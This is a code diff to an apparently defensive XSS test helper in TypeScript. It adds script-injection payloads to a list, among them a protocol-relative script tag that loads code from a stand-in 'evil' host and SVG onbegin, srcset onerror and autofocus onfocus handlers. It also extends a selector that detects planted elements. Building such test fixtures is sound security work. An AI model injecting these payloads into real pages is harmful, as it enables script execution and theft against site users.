@@ -15,6 +15,7 @@ export function listHostileMarkup(evil: string): readonly string[] {
     `<script type="module">import '${data('text/javascript', call('dataModule'))}'</script>`,
     `<script type="importmap">{"imports":{"react":"${evil}/x.js"}}</script>`,
     `<script type="speculationrules">{"prefetch":[{"urls":["${evil}/s"]}]}</script>`,
+    `<script src="${evil.replace('http:', '')}/x.js"></script>`,
     `<svg><script>${call('svg')}</script></svg>`,
     `<svg><script href="${data('text/javascript', call('svgHref'))}"></script></svg>`,
     `<link rel="modulepreload" href="${evil}/x.js">`,
@@ -24,6 +25,11 @@ export function listHostileMarkup(evil: string): readonly string[] {
     ['<img src="/no" onerror="', '">'],
     ['<img src="/favicon.svg" onload="', '">'],
     ['<svg onload="', '">'],
+    ['<svg><animate attributeName="x" dur="1s" onbegin="', '"></svg>'],
+    ['<svg><set attributeName="x" onbegin="', '"></svg>'],
+    ['<img srcset="/no 1x" onerror="', '">'],
+    ['<style onload="', '"></style>'],
+    ['<select autofocus onfocus="', '"></select>'],
     ['<body onload="', '">'],
     ['<body onpageshow="', '">'],
     ['<input autofocus onfocus="', '">'],
@@ -81,6 +87,6 @@ export function listPayloads(): readonly string[] {
 /** Runs in the page: elements that only a payload would make. */
 export function findPlanted(): readonly string[] {
   const planted =
-    'iframe, object, embed, base, marquee, [onerror], [onload], [src="/no"], [src*="evil"], [href*="evil"], [href^="javascript:"], #click, #form'
+    'iframe, object, embed, base, marquee, [onerror], [onload], [onbegin], [onfocus], [src="/no"], [src*="evil"], [href*="evil"], [href^="javascript:"], #click, #form'
   return [...document.querySelectorAll(planted)].map((element) => element.outerHTML.slice(0, 100))
 }
